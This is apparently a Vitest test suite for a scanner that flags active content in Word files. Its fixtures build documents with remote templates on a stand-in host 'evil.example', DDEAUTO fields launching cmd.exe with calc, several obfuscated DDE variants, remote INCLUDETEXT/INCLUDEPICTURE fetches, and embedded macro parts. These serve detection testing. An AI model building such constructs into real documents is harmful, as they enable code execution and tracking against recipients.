import { describe, expect, test } from 'vitest'
import { externalLink, makeDocx, paragraph } from '#tests/support/make-docx.ts'
import { relationship, rels, scan } from '#tests/support/active-content.ts'

const fieldMark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const field = (...runs: string[]) =>
  `<w:p>${fieldMark('begin')}${runs.join('')}${fieldMark('separate')}<w:r><w:t>1</w:t></w:r>${fieldMark('end')}</w:p>`
const template = (target: string) =>
  makeDocx(paragraph('Contrato'), {
    parts: [{ name: 'word/_rels/settings.xml.rels', data: rels(relationship('attachedTemplate', target, true)) }],
  })
const withPart = (name: string, relationshipType: string, data = 'x') =>
  makeDocx(paragraph('Contrato'), {
    relationships: relationship(relationshipType, name.replace(/^word\//, '')),
    parts: [{ name, data }],
  })

describe('a Word file', () => {
  test.each<[string, Buffer, string]>([
    ['a template on a web server', template('https://evil.example/plantilla.dotm'), 'remote_template'],
    ['a template on a share', template('\\\\evil.example\\c\\plantilla.dotm'), 'remote_template'],
    ['a template on a share, as an address', template('file://evil.example/c/plantilla.dotm'), 'remote_template'],
    [
      'a template on a share behind three slashes',
      template('file:///\\\\evil.example\\plantilla.dotm'),
      'remote_template',
    ],
    [
      'a template whose address is percent-encoded',
      template('file:%2f%2fevil.example/plantilla.dotm'),
      'remote_template',
    ],
    ['an OLE object inside', withPart('word/embeddings/oleObject1.bin', 'oleObject'), 'embedded_object'],
    [
      'a linked OLE object',
      makeDocx(paragraph('a'), { relationships: externalLink('file:///C:/Windows/System32/calc.exe', 'oleObject') }),
      'embedded_object',
    ],
    ['a workbook inside', withPart('word/embeddings/Hoja.xlsx', 'package'), 'embedded_object'],
    ['an embedded document of another format', withPart('word/afchunk.rtf', 'aFChunk'), 'embedded_object'],
    ['an ActiveX control', withPart('word/activeX/activeX1.xml', 'control', '<a/>'), 'active_control'],
    [
      'a DDE field',
      makeDocx(field(instruction('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))),
      'dde_field',
    ],
    [
      'a DDE field over several runs',
      makeDocx(field(instruction(' D'), instruction('DE'), instruction('AUTO cmd "/k calc"'))),
      'dde_field',
    ],
    [
      'a simple DDE field',
      makeDocx(`<w:p><w:fldSimple w:instr=" dde cmd &quot;/k calc&quot;"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`),
      'dde_field',
    ],
    ['a DDE field behind character references', makeDocx(field(instruction('&#x44;DE cmd'))), 'dde_field'],
    [
      'a DDE field whose name is made by another field',
      makeDocx(
        field(
          fieldMark('begin'),
          instruction('QUOTE 68 68 69'),
          fieldMark('separate'),
          fieldMark('end'),
          instruction(' cmd "/k calc"'),
        ),
      ),
      'dde_field',
    ],
    ['a DDE field that never ends', makeDocx(`<w:p>${fieldMark('begin')}${instruction('DDE cmd')}</w:p>`), 'dde_field'],
    ['a DDE field in a header', makeDocx(paragraph('a'), { header: field(instruction('DDEAUTO cmd')) }), 'dde_field'],
    [
      'a DDE field in UTF-16',
      makeDocx(paragraph('a'), {
        parts: [
          {
            name: 'word/glossary/document.xml',
            data: Buffer.from('\ufeff<w:document><w:instrText>DDE cmd</w:instrText></w:document>', 'utf16le'),
          },
        ],
      }),
      'dde_field',
    ],
    [
      'a field that fetches text',
      makeDocx(field(instruction('INCLUDETEXT "https://evil.example/a.docx"'))),
      'remote_content',
    ],
    [
      'a field that fetches a picture from a share',
      makeDocx(field(instruction('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d'))),
      'remote_content',
    ],
    [
      'a linked picture',
      makeDocx(paragraph('a'), { relationships: externalLink('https://evil.example/pixel.png', 'image') }),
      'remote_content',
    ],
    [
      'a frame',
      makeDocx(paragraph('a'), { relationships: externalLink('https://evil.example/', 'frame') }),
      'remote_content',
    ],
    [
      'an unsupported encoding',
      makeDocx(paragraph('a'), { parts: [{ name: 'word/x.xml', data: '<?xml version="1.0" encoding="utf-7"?><a/>' }] }),
      'not_checked',
    ],
  ])('is flagged for %s', async (_, bytes, warning) => {
    expect(await scan(bytes)).toEqual({ macros: false, warnings: [warning] })
  })

  test.each<[string, Buffer]>([
    ['macros under another name', withPart('word/datos.bin', 'vbaProject')],
    ['the part of macros', withPart('word/vbaProject.bin', 'vbaProject')],
    ['the data of macros', withPart('word/vbaData.xml', 'wordVbaData', '<a/>')],
  ])('is flagged as having macros for %s', async (_, bytes) => {
    expect((await scan(bytes)).macros).toBe(true)
  })

  test('is flagged once for each kind of active content in it', async () => {
    const bytes = makeDocx(field(instruction('DDE cmd')), {
      relationships: externalLink('https://evil.example/a.png', 'image'),
      parts: [
        {
          name: 'word/_rels/settings.xml.rels',
          data: rels(relationship('attachedTemplate', 'http://evil.example/t.dotm', true)),
        },
      ],
    })
    expect((await scan(bytes)).warnings).toEqual(['remote_template', 'dde_field', 'remote_content'])
  })

  test.each<[string, Buffer]>([
    ['nothing but text', makeDocx(paragraph('DDEAUTO es una palabra; también https://example.com'))],
    ['a link to the web', makeDocx(paragraph('a'), { relationships: externalLink('https://example.com/') })],
    ['a link to a share', makeDocx(paragraph('a'), { relationships: externalLink('\\\\servidor\\expedientes') })],
    ['the usual template', template('Normal.dotm')],
    [
      'a template on its writer’s disk',
      template('file:///C:\\Users\\Ana\\AppData\\Roaming\\Microsoft\\Templates\\Carta.dotx'),
    ],
    [
      'a linked picture in the same directory',
      makeDocx(paragraph('a'), { relationships: externalLink('foto.png', 'image') }),
    ],
    [
      'usual fields',
      makeDocx(
        `${field(instruction(' PAGE '))}${field(instruction('HYPERLINK "https://example.com/dde"'))}${field(instruction('MERGEFIELD DDE_NUMERO'))}${field(instruction('INCLUDEPICTURE "fotos\\\\a.png" \\* MERGEFORMAT'))}`,
      ),
    ],
    [
      'the workbook of a chart',
      makeDocx(paragraph('a'), {
        parts: [
          { name: 'word/charts/_rels/chart1.xml.rels', data: rels(relationship('package', '../embeddings/Hoja.xlsx')) },
          { name: 'word/embeddings/Hoja.xlsx', data: 'x' },
        ],
      }),
    ],
    [
      'custom XML data',
      makeDocx(paragraph('a'), {
        relationships: relationship('customXml', '../customXml/item1.xml'),
        parts: [{ name: 'customXml/item1.xml', data: '<a>DDE</a>' }],
      }),
    ],
  ])('is harmless with %s', async (_, bytes) => {
    expect(await scan(bytes)).toEqual({ macros: false, warnings: [] })
  })

  test('is marked as not checked when its parts inflate to more than is scanned', async () => {
    const bytes = makeDocx(paragraph('a'), {
      parts: [1, 2, 3].map((n) => ({
        name: `word/relleno${n}.xml`,
        data: Buffer.concat([Buffer.from('<a>'), Buffer.alloc(12 * 1024 * 1024, 'ab cd ef gh '), Buffer.from('</a>')]),
      })),
    })
    expect((await scan(bytes)).warnings).toEqual(['not_checked'])
  })
})
